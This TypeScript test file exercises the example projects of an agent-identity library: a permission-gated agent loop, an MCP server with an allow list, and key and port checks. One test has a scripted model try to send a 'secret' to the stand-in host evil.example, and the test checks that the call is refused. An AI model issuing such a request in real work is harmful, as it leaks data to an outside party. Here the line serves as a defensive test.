import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { type Agent, agentServer, createAgent, type Interact } from '@countersign/agent'
import { loopback } from '@countersign/agent/node'
import { createAgentServer } from '@countersign/agent-server'
import { agentTransport } from '@countersign/mcp/client'
import { scriptedUser } from '@countersign/playground'
import { serve } from '@countersign/server'
import { folderOfTest } from '@countersign/testing/folders'
import { freePort, freePorts } from '@countersign/testing/ports'
import { Client } from '@modelcontextprotocol/client'
import { afterAll, describe, expect, test } from 'vitest'
import { root } from './processes.fixture.js'

// The examples, run as their pages say.

const ends: Array<() => Promise<unknown>> = []
afterAll(async () => {
  for (const end of ends.reverse()) await end()
})

const load = <T>(file: string): Promise<T> => import(pathToFileURL(join(root, 'examples', file)).href) as Promise<T>

describe('the loop of an agent', async () => {
  interface Step {
    readonly call: { readonly url: string; readonly method?: string; readonly body?: unknown }
    readonly result: { readonly status?: number; readonly text?: string; readonly refused?: string }
  }
  type Think = (so: { readonly history: readonly Step[] }) => Promise<Partial<Step> & { readonly answer?: string }>
  interface Place {
    readonly calendar: string
    end(): Promise<void>
  }
  const { start, agentOf, scriptedModel } = await load<{
    start(o: { readonly port: number; readonly folder: string }): Promise<Place>
    agentOf(place: Place, interact: Interact): Agent
    scriptedModel(calendar: string): Think
  }>('agent-loop/run.mjs')
  const { runTask } = await load<{
    runTask(o: {
      readonly agent: Agent
      readonly task: string
      readonly think: Think
      readonly allowed: readonly string[]
    }): Promise<{ readonly answer: string; readonly history: readonly Step[] }>
  }>('agent-loop/loop.mjs')

  async function run(decision: 'Allow' | 'Refuse', think?: Think) {
    const place = await start({ port: await freePorts(3), folder: folderOfTest() })
    ends.push(place.end)
    const user = scriptedUser('Ada')
    const agent = agentOf(place, loopback({ open: async url => void (await user.decide(url, decision)) }))
    const model = think ?? scriptedModel(place.calendar)
    return runTask({ agent, task: 'Put lunch into my calendar', think: model, allowed: [place.calendar] })
  }

  test('its user allows each thing once, and the task is done', async () => {
    const { answer, history } = await run('Allow')
    expect([answer, history.map(({ result }) => result.status)]).toEqual(['Lunch is at 12:30.', [200, 200]])
  })

  test('a user who says no is told to the model in words', async () => {
    const { answer } = await run('Refuse')
    expect(answer).toContain('I could not look: ')
  })

  test('a model that was told to call elsewhere calls nothing, and one that never ends is stopped', async () => {
    const { answer, history } = await run('Allow', async () => ({ call: { url: 'https://evil.example/?q=secret' } }))
    expect(answer).toBe('I did not finish in time.')
    expect(new Set(history.map(({ result }) => result.refused))).toEqual(new Set(['this address is not allowed']))
  })
})

describe('an MCP server', async () => {
  const { start } = await load<{
    start(o: object): Promise<{ readonly url: string; end(): Promise<void> }>
  }>('mcp-server/server.mjs')

  test('lets every agent that says who it is look, and those on its list add', async () => {
    const [friend, other] = [await namedAgent(), await namedAgent()]
    const { url, end } = await start({
      port: await freePort(),
      folder: folderOfTest(),
      friends: [friend.id],
      announce: () => undefined,
    })
    ends.push(end)
    const tool = async (agent: Agent, name: string, args = {}) => {
      const client = new Client({ name: 'test', version: '1.0.0' })
      await client.connect(agentTransport(url, agent))
      const result = (await client.callTool({ name, arguments: args }).finally(() => client.close())) as {
        content: Array<{ text: string }>
      }
      return result.content[0]?.text
    }
    expect(await tool(other.agent, 'list_items')).toBe('nothing')
    await expect(tool(other.agent, 'add_item', { item: 'milk' })).rejects.toThrow()
    expect(await tool(friend.agent, 'add_item', { item: 'milk' })).toBe(`milk is on the list, by ${friend.id}`)
    expect(await tool(other.agent, 'list_items')).toBe(`milk (${friend.id})`)
  })
})

test('a restart of an example signs under the same keys', async () => {
  const { start } = await load<{ start(o: object): Promise<{ readonly url: string; end(): Promise<void> }> }>(
    'mcp-server/server.mjs',
  )
  const place = { port: await freePort(), folder: folderOfTest(), announce: () => undefined }
  const keys = async (folder: string): Promise<unknown> => {
    const { url, end } = await start({ ...place, folder })
    const answer = await fetch(new URL('/.well-known/jwks.json', url)).finally(end)
    return answer.json()
  }
  const first = await keys(place.folder)
  expect(await keys(place.folder)).toEqual(first)
  expect(await keys(folderOfTest())).not.toEqual(first)
})

describe('the examples', () => {
  const sources = readdirSync(join(root, 'examples'), { recursive: true, encoding: 'utf8' })
    .filter(file => file.endsWith('.mjs'))
    .map(file => ({ file, text: readFileSync(join(root, 'examples', file), 'utf8') }))

  test('make no new key for a published document: others have cached the key of before under its name', () => {
    const making = sources.filter(({ text }) => /\bkid:/.test(text) || text.includes('generateSigningKey('))
    // It publishes nothing: its key stands in each request.
    expect(making.map(({ file }) => file)).toEqual(['remote-signer/signer.mjs'])
  })

  test('have ports of their own: neither those of another, nor of the conformance suite, nor of the playground', () => {
    const ports = sources.flatMap(({ text }) => [
      ...new Set([...text.matchAll(/(?:port|listen) = (\d{4})/g)].map(([, port]) => Number(port))),
    ])
    expect(ports.toSorted()).toEqual([4800, 4820, 4830, 4831, 4840, 4850])
    const folder = join(root, 'packages/conformance/src/config')
    const suite = readdirSync(folder)
      .filter(file => file.endsWith('-configuration.ts'))
      .flatMap(file => [...readFileSync(join(folder, file), 'utf8').matchAll(/\b4\d{3}\b/g)].map(Number))
    expect(suite).toContain(4720)
    for (const port of [...suite, ...Array.from({ length: 75 }, (_, at) => 4100 + at)])
      expect(port < 4800 || port > 4852, String(port)).toBe(true)
  })
})

/** An agent that publishes its key, and says everywhere who it is. */
async function namedAgent(): Promise<{ readonly id: string; readonly agent: Agent }> {
  const port = await freePort()
  const id = `http://localhost:${port}`
  const own = await createAgentServer({ id, development: true })
  const place = { name: 'agent', id, port, participant: own, development: true, signals: false } as const
  const running = await serve({ ...place, level: 'error', announce: () => undefined })
  ends.push(() => running.close())
  const identity = agentServer({ id, key: own.signingKey })
  return { id, agent: createAgent({ identity, identifyTo: 'any', development: true }) }
}
